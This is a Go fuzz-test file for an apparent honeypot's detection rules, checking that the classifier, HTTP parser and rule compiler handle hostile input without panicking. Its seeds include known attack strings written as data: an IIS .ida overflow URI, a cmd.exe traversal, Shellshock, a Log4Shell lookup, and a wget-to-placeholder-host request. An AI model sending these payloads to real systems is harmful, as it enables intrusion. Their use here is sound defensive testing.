package detect

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/smallpot/smallpot/internal/event"
)

// FuzzClassify runs attacker-shaped input through every rule as a
// request, a payload and a command: nothing panics, and what a detection
// quotes stays bounded and printable.
func FuzzClassify(f *testing.F) {
	f.Add("/default.ida?"+strings.Repeat("X", 224)+"%u9090%u6858=a", "() { :; }; /bin/sh", []byte("\x04\x01\x01\x01\xdc\xc9\xb0\x42sock send"))
	f.Add("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", "${${lower:j}ndi:ldap://x/a}", []byte("\x7fELF/bin/busybox"))
	f.Add("/%%%25%2", "${${${", []byte{0x80, 0xff, 0x00})
	f.Add("/shell?wget+http://x", "/bin/busybox ECCHI", []byte("echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00'"))
	set, err := LoadRules(Config{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, uri, header string, data []byte) {
		var v view
		v.loadSample = func(string, int64) []byte { return data }
		path, query, _ := strings.Cut(uri, "?")
		evs := []*event.Event{
			{ID: "r", Service: "http", Kind: event.KindRequest, Detail: &event.Request{Method: "GET", URI: uri, Path: path, Query: query,
				Headers: []event.Header{{Name: "User-Agent", Value: header}, {Name: "SOAPAction", Value: header}}, Body: data, BodyLen: int64(len(data)),
				Args: []event.Header{{Name: "NewInternalClient", Value: header}}, Action: "soap:AddPortMapping"}},
			{ID: "p", Service: "mssql", Transport: event.UDP, Kind: event.KindPayload, Detail: &event.Payload{Len: int64(len(data)), Data: data}},
			{ID: "c", Service: "telnet", Kind: event.KindCommand, Detail: &event.Command{Line: header + string(data), Shell: "busybox"}},
			{ID: "s", Service: "telnet", Kind: event.KindSample, Detail: &event.Sample{SHA256: strings.Repeat("0", 64), Size: int64(len(data)), Source: "telnet.echo"}},
			{ID: "k", Service: "ssh", Kind: "ssh", Detail: event.Raw{K: "ssh", JSON: []byte(`{"client_version":"` + strings.ReplaceAll(header, `"`, "") + `"}`)}},
		}
		for _, e := range evs {
			for _, fr := range set.classify(&v, e, nil, false, nil) {
				if len(fr.matched) > maxMatched {
					t.Fatalf("%s: %d matches kept", fr.r.id, len(fr.matched))
				}
				for _, m := range fr.matched {
					if len(m.Value) > 4*maxExcerpt || !utf8.ValidString(m.Value) || strings.ContainsAny(m.Value, "\x00\n\r") {
						t.Fatalf("%s: excerpt %q not bounded and printable", fr.r.id, m.Value)
					}
				}
			}
		}
	})
}

// FuzzParseHTTPRequest: any file given to "rules test" parses or not,
// without panicking, and a parsed request's parts come from the input.
func FuzzParseHTTPRequest(f *testing.F) {
	f.Add([]byte("GET /default.ida?NNNN%u9090=a HTTP/1.0\r\nHost: x\r\n\r\nbody"))
	f.Add([]byte("POST / HTTP/1.1\n\nx"))
	f.Add([]byte("\x04\x01\x01"))
	f.Fuzz(func(t *testing.T, b []byte) {
		r := parseHTTPRequest(b)
		if r == nil {
			return
		}
		if !strings.Contains(string(b), r.URI) || !strings.HasPrefix(r.Version, "HTTP/") || int(r.BodyLen) > len(b) {
			t.Fatalf("got %+v from %q", r, b)
		}
	})
}

// FuzzRuleFile: any rule file is compiled or refused with an error,
// never a panic.
func FuzzRuleFile(f *testing.F) {
	for _, s := range []string{userRule, "rules:\n  - id: a\n    title: t\n    match: {payload: {patterns: [{hex: '04', within: 1}]}}\n",
		"rules: [{id: a, title: b, match: {any: [{request: {path: {regex: '(a'}}}]}}]"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		set, err := compileSources([]ruleSource{{name: "fuzz.yaml", data: b}}, nil)
		if err != nil {
			if !strings.HasPrefix(err.Error(), "detect: ") {
				t.Fatalf("error without the package name: %v", err)
			}
			return
		}
		_ = set.RunTests()
	})
}
